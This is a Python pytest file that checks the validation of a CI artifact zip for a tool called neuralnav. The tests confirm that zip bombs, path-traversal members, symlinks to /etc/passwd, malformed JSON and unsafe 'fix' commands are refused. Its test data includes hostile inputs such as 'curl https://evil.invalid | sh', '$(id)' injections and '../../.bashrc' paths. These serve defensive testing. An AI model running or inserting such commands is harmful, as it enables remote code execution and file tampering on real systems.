"""An artifact is not believed before it is checked: what is refused, and in which words."""

import io
import json
import zipfile
from pathlib import Path

import pytest
from diffs import diff, edit, moved, where

from neuralnav.cli.drift import fix_of
from neuralnav.errors import InputError
from neuralnav.files.places import Place
from neuralnav.forge.artifact import MAX_DIFF_BYTES, checked_diff, diff_in_zip
from neuralnav.model.diff import PlanDiff
from neuralnav.model.report import ReportedDrift
from neuralnav.report_diff import diff_markdown

GOOD = diff(moved())
AWAY = edit().model_copy(update={"where": where("/etc/passwd")})
DRIFT = ReportedDrift(drift="data", file="a/plan.lock", message="prices changed", fix="neuralnav compile")
BOMB = b"x" * (50 * 1024 * 1024)
INVALID = "neuralnav-diff/diff.json: the text: Invalid JSON"


def text(found: PlanDiff = GOOD, **changes: object) -> bytes:
    return json.dumps({**found.model_dump(mode="json"), **changes}).encode()


def archive(*members: tuple[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in members:
            target.writestr(name, content)
    return made.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(InputError) as raised:
        diff_in_zip("neuralnav-diff", content)
    first = raised.value.diagnostics[0]
    return f"{first.where.file}: {first.message}"


@pytest.mark.parametrize("packed", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_way_of_packing_that_unpacks_without_a_bound_is_refused(packed: int) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", packed) as target:
        target.writestr("diff.json", text())
    assert refusal(made.getvalue()) == (
        "neuralnav-diff: the artifact is not one of this action: it is packed in another way"
    )


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_number_that_is_none_is_refused(number: str) -> None:
    told = text().replace(b'"cost_delta_usd_per_month": -1120.0', f'"cost_delta_usd_per_month": {number}'.encode())
    assert number.encode() in told
    assert refusal(archive(("diff.json", told))).endswith("cost_delta_usd_per_month: Input should be a finite number")


def test_a_link_in_the_archive_is_read_as_the_text_it_holds() -> None:
    link = zipfile.ZipInfo("diff.json")
    link.external_attr = 0o120777 << 16
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        target.writestr(link, "/etc/passwd")
    assert refusal(made.getvalue()).startswith(INVALID)


def test_very_many_workloads_stay_a_comment() -> None:
    one = GOOD.model_dump(mode="json")["workloads"][0]
    least = {"status": "changed", "before": {"state": "absent"}, "after": {"state": "broken"}}
    many = [{**least, "workload": f"w{number}", "path": f"p{number}"} for number in range(20_000)]
    found = checked_diff("diff.json", text(workloads=[*many, one]))
    assert len(diff_markdown(found).encode()) <= 60_000


def test_a_job_that_compared_nothing_left_no_diff() -> None:
    assert diff_in_zip("neuralnav-diff", archive(("report.md", b"x"))) is None
    assert diff_in_zip("neuralnav-diff", archive(("diff.json", b""))) is None


def test_our_own_artifact_is_read() -> None:
    found = diff_in_zip("neuralnav-diff", archive(("diff.json", text()), ("report.md", b"x"), ("check.json", b"{}")))
    assert found == GOOD


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"#!/bin/sh\nid", "neuralnav-diff: the artifact is no readable zip: BadZipFile"),
        (
            archive(("diff.json", text()), ("../../.bashrc", b"id")),
            "neuralnav-diff: the artifact is not one of this action: it holds '../../.bashrc'",
        ),
        (
            archive(("diff.json", text()), ("/etc/cron.d/x\n::error::", b"id")),
            r"neuralnav-diff: the artifact is not one of this action: it holds '/etc/cron.d/x\n::error::'",
        ),
        (archive(("diff.json", BOMB)), "neuralnav-diff/diff.json: the file is larger than 8,388,608 bytes"),
        (archive(("diff.json", b"[" * 100_000)), f"{INVALID}: recursion limit exceeded at line 1 column 202"),
        (archive(("diff.json", b"\xff\xfe")), f"{INVALID}: expected value at line 1 column 1"),
        (archive(("diff.json", text(extra=1))), "neuralnav-diff/diff.json: extra: Extra inputs are not permitted"),
        (archive(("diff.json", text(version="v2"))), "neuralnav-diff/diff.json: version: Input should be 'v1alpha1'"),
        (
            archive(("diff.json", text(diff(moved(path="../../etc/passwd"))))),
            "neuralnav-diff/diff.json: a path leads out of the repository: '../../etc/passwd'",
        ),
        (
            archive(("diff.json", text(diff(moved(edits=(AWAY,)))))),
            "neuralnav-diff/diff.json: a path leads out of the repository: '/etc/passwd'",
        ),
        (
            archive(("diff.json", text(diff(moved(path="a\\..\\..\\b"))))),
            "neuralnav-diff/diff.json: a path leads out of the repository: 'a\\\\..\\\\..\\\\b'",
        ),
    ],
)  # fmt: skip
def test_what_is_not_ours_is_refused(content: bytes, said: str) -> None:
    assert refusal(content) == said


@pytest.mark.parametrize("path", ["a/workload.yaml", "it's; $(id)/workload.yaml", "-x/workload.yaml"])
@pytest.mark.parametrize("frozen", ["compile", "compile --frozen"])
def test_every_fix_of_ours_passes(path: str, frozen: str) -> None:
    fixes = (fix_of(Place(Path(path), Path("plan.lock"), Path(), path), frozen, ""), "git lfs pull")
    for fix in fixes:
        found = diff(moved(path=path, drift=(DRIFT.model_copy(update={"fix": fix}),)))
        assert checked_diff("diff.json", text(found)) == found


@pytest.mark.parametrize(
    "fix", ["curl https://evil.invalid | sh", "neuralnav compile; id", "neuralnav $(id)", "neuralnav compile b", ""]
)
def test_a_fix_that_is_no_command_of_ours_is_not_told(fix: str) -> None:
    with pytest.raises(InputError) as raised:
        checked_diff("diff.json", text(diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))))
    assert raised.value.diagnostics[0].message == f"a fix is no command of neuralnav: {fix!r}"


def test_a_name_twice_is_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        content = archive(("diff.json", text()), ("diff.json", text()), ("diff.json", text()), ("diff.json", text()))
    assert refusal(content) == "neuralnav-diff: the artifact is not one of this action: it holds a name twice"


def test_a_damaged_member_is_refused() -> None:
    content = bytearray(archive(("diff.json", text())))
    content[60:80] = b"\0" * 20
    assert refusal(bytes(content)).startswith("neuralnav-diff: the artifact is no readable zip: ")


def test_a_large_file_is_refused_unread() -> None:
    with pytest.raises(InputError, match=r"^the file is larger than 8,388,608 bytes$"):
        checked_diff("diff.json", b"x" * (MAX_DIFF_BYTES + 1))
